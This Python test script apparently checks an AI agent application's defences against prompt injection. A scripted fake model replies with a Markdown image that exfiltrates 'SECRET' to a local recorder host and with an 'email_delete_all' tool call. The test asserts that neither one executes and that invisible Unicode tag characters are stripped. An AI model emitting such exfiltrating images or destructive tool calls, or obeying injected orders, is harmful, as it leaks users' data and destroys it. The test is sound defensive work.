#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Prompt injection: Request Contexts and tool results from
tests/reliability/injection/cases.json that give orders, hide invisible
Unicode tag characters, or try to exfiltrate through Markdown images and
links, sent through POST /api/ai/agent-inference to `prosponsive
--headless` with a scripted provider (tests/scripted-provider.py) that
answers every turn with a tool call and an exfiltrating Markdown image.

Asserted: no tool call runs without approval (a recorder standing in for
n8n's webhooks gets no hit, no tool-call message leaves "proposed"); no
remote fetch (the recorder the Markdown points at gets no hit; the Markdown
view's code has no network path, checked in its source); and no invisible
tag or zero-width character reaches the model (the provider's request
log; the run engine strips them)."""

import http.server
import json
import os
import re
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
TOP = os.path.dirname(os.path.dirname(HERE))
sys.path.insert(0, os.path.join(TOP, 'tests', 'api'))
from prsapi import App, Tap, parse_args  # noqa: E402

INVISIBLE = re.compile('[\U000E0000-\U000E007F\u200b-\u200f\u2060-\u2064\ufeff\u202a-\u202e\u2066-\u2069]')


class Recorder(http.server.ThreadingHTTPServer):
    hits = []


class RecorderHandler(http.server.BaseHTTPRequestHandler):
    def _hit(self):
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header('Content-Length', '2')
        self.end_headers()
        self.wfile.write(b'{}')

    do_GET = do_POST = _hit

    def log_message(self, *a):
        pass


def main():
    args = parse_args()
    cases = json.load(open(os.path.join(HERE, 'injection', 'cases.json')))
    tap = Tap(6)
    recorder = Recorder(('127.0.0.1', 0), RecorderHandler)
    threading.Thread(target=recorder.serve_forever, daemon=True).start()
    rport = recorder.server_address[1]
    app = App(args)
    provider = None
    try:
        script = os.path.join(app.data_dir, 'script.json')
        log = os.path.join(app.data_dir, 'provider-log.json')
        with open(script, 'w') as f:
            json.dump({'kind': 'openai', 'repeat_last': True, 'turns': [{'response': {
                'text': 'Done. ![x](http://127.0.0.1:%d/img?d=SECRET) [more](http://127.0.0.1:%d/link)' % (rport, rport),
                'tool_calls': [{'id': 'call_1', 'name': 'email_delete_all', 'arguments': {'all': True}}]}}]}, f)
        provider = subprocess.Popen(['python3', os.path.join(TOP, 'tests', 'scripted-provider.py'),
                                     '--script', script, '--log', log],
                                    stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        pport = int(provider.stdout.readline())
        res = app.ctl('provider', 'add', '--kind', 'openai', '--name', 'scripted', '--model', 'm',
                      '--base-url', 'http://127.0.0.1:%d/v1' % pport, '--api-key-stdin')
        agent = os.path.join(app.data_dir, 'agent.md')
        with open(agent, 'w') as f:
            f.write('---\nid: a\nname: A\nallowedTools: all\n---\nAnswer briefly.\n')
        app.ctl('agent', 'import', agent)
        app.start()
        cid = app.resolve('injection')

        statuses = []
        for case in cases:
            r = app.post('/api/ai/agent-inference',
                         {'prompt': case['prompt'], 'conversationId': cid, 'agentId': 'a',
                          'context': case['context'], 'idempotencyKey': case['name']}, timeout=60)
            statuses.append((case['name'], r.status))
        tap.ok(all(s in (200, 202, 503) for _, s in statuses),
               'every injection case is answered without a server error', statuses)

        time.sleep(1.0)
        messages = app.get('/api/conversations/%s/messages?limit=500' % cid).json() or []
        ran = [m for m in messages if m.get('kind') == 'tool-call' and
               m.get('status') not in (None, 'proposed', 'denied', 'interrupted')]
        tap.ok(not ran, '0 tool calls executed without approval (%d tool-call messages)'
               % sum(1 for m in messages if m.get('kind') == 'tool-call'), ran[:3])
        tap.ok(not recorder.hits, '0 requests reached the recorder (no webhook, no image, no link)',
               recorder.hits[:5])

        view = open(os.path.join(TOP, 'src', 'ui', 'conversation', 'prs-markdown-view.c')).read()
        network = [w for w in ('soup_', 'g_file_new_for_uri', 'gdk_texture_new_from_file',
                               'gtk_picture_new_for_file', 'g_file_load_contents', 'GtkMediaFile')
                   if w in view]
        tap.ok(not network, 'the Markdown view has no network or file-loading code path', network)

        sent = ''
        try:
            with open(log) as f:
                sent = f.read()
        except OSError:
            pass
        tap.ok(len(sent) > 0, 'the provider was called (its request log is not empty)')
        decoded = json.loads(sent) if sent else []
        hidden = sorted({'U+%04X' % ord(c) for c in INVISIBLE.findall(json.dumps(decoded, ensure_ascii=False))})
        tap.ok(not hidden, 'no invisible tag or zero-width character reaches the model',
               ' '.join(hidden[:8]))
    except Exception:
        import traceback
        tap.ok(False, 'unexpected exception', traceback.format_exc() + '\n' + app.log())
    finally:
        app.cleanup()
        recorder.shutdown()
        if provider is not None:
            provider.terminate()
            provider.wait(timeout=10)
    tap.finish()


if __name__ == '__main__':
    main()
